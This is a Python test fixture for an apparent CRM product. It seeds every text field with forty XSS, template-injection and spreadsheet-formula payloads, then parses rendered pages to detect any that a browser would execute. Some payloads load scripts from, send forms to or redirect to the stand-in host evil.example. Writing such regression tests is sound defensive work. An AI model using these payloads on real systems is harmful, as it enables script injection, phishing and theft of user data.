"""Forty texts that a form, a list or a CRM may hold, and a company in which every text is one of them.

Each carries a mark: where a mark stands in anything that a browser would run or follow, the text was
taken for more than a text. They are of the kinds that were really stored and run in products of this
field: in names sent through public forms, in notes, in segments, in file names.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from datetime import datetime
from html.parser import HTMLParser
from typing import Any
from urllib.parse import unquote

from revloop.facts.columns import Column, Holds
from revloop.facts.kinds import KINDS

MARK = "7007"
PAYLOADS = (
    "<script>alert(7007)</script>",
    '"><script>alert(7007)</script>',
    "'><script>alert(7007)</script>",
    "<SCRIPT SRC=//evil.example/7007.js></SCRIPT>",
    "<scr<script>ipt>alert(7007)</scr</script>ipt>",
    "</script><script>alert(7007)</script>",
    "</title><script>alert(7007)</script>",
    "</textarea><script>alert(7007)</script>",
    "</style><script>alert(7007)</script>",
    "--><script>alert(7007)</script>",
    "]]><script>alert(7007)</script>",
    "<img src=x onerror=alert(7007)>",
    '"><img src=x onerror=alert(7007)>',
    "<img src=x:7007 onerror=alert`7007`//",
    "<svg onload=alert(7007)>",
    "<svg><script>alert&#40;7007)</script></svg>",
    "</title><svg onload=alert(7007)>",
    "<svg><animate onbegin=alert(7007) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(7007)>",
    "<body onload=alert(7007)>",
    "<iframe srcdoc='<script>alert(7007)</script>'></iframe>",
    "<iframe src=javascript:alert(7007)></iframe>",
    "<object data=javascript:alert(7007)></object>",
    "<embed src=//evil.example/7007>",
    "<base href=//evil.example/7007/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/7007'>",
    "<link rel=stylesheet href=//evil.example/7007.css>",
    "<style>*{background:url(//evil.example/7007)}</style>",
    "<form action=//evil.example/7007><button>Sign in again</button></form>",
    "<details open ontoggle=alert(7007)>",
    "<input autofocus onfocus=alert(7007)>",
    "' onmouseover='alert(7007)",
    '" autofocus onfocus="alert(7007)',
    "javascript:alert(7007)",
    "data:text/html,<script>alert(7007)</script>",
    "{{ 7007*7007 }}{% debug %}",
    "${alert(7007)}#{alert(7007)}<%= 7007*7007 %>",
    "&lt;script&gt;alert(7007)&lt;/script&gt;",
    "<x hx-get=//evil.example/7007 hx-trigger=load>",
    '=HYPERLINK("//evil.example/7007")\u202e<b>\u2067',
)
"""As they stand in a field, in no order."""
COMPUTED = str(int(MARK) ** 2)
"""What a template that ran one of them would have written."""
_FOLLOWED = (
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "srcdoc",
    "xlink:href",
    "hx-get",
    "hx-post",
)
_INNER = {"account": "domain", "contact": "email"}
"""Texts that must look like an address to be one; they are filled in another way."""


def facts(at: datetime) -> dict[str, list[dict[str, Any]]]:
    """One fact of every kind for each text, in all of whose open text columns the text stands."""
    return {
        name: [_row(name, each, text, at) for each, text in enumerate(PAYLOADS)] for name in KINDS
    }


def _row(kind: str, each: int, text: str, at: datetime) -> dict[str, Any]:
    said: dict[str, Any] = {"source_id": f"{kind}-{each}", "at": at}
    for column in KINDS[kind].columns:
        filled = _filled(column, each, text)
        if column.required and filled is None:
            filled = at
        if filled is not None:
            said[column.name] = filled
    if kind in _INNER:
        said[_INNER[kind]] = f"x{each}@h{each}.example" if kind == "contact" else f"h{each}.example"
    return said


def _filled(column: Column, each: int, text: str) -> Any:
    if column.holds is Holds.KEY:
        again = column.name.startswith(("became_", "parent_", "duplicate_"))
        return None if again else f"crm:{column.of}-{each}"
    if column.holds is Holds.TEXT:
        return column.values[each % len(column.values)] if column.values else text
    if column.holds is Holds.TEXTS:
        return [column.values[0] if column.values else text]
    return None


class Shown(HTMLParser):
    """What a page says, and whatever of it a browser would run or follow that carries the mark."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.said: list[str] = []
        self.taken: list[str] = []
        self._inside = ""
        self.feed(page)
        self.close()

    @property
    def text(self) -> str:
        return " ".join("".join(self.said).split())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # What a chart is drawn from is data: no browser runs it.
        self._inside = "" if ("type", "application/json") in attrs else tag
        self.taken += [f"<{tag} {name}={value}>" for name, value in _run(dict(attrs))]

    def handle_endtag(self, tag: str) -> None:
        if tag == self._inside:
            self._inside = ""

    def handle_data(self, data: str) -> None:
        self.said.append(data)
        if self._inside in {"script", "style"} and MARK in data:
            self.taken.append(f"<{self._inside}>{data}")


def _run(attributes: Mapping[str, str | None]) -> Iterator[tuple[str, str]]:
    for name, value in attributes.items():
        said = unquote(value or "")
        runs = name.startswith("on") or name == "style" or MARK in name
        # An address of ours may carry a text as what is asked for, but begins as one of ours.
        leaves = name in _FOLLOWED and MARK in said and not said.startswith(("/", "?", "#"))
        if (runs and MARK in said) or MARK in name or leaves or said.startswith("//"):
            yield name, said
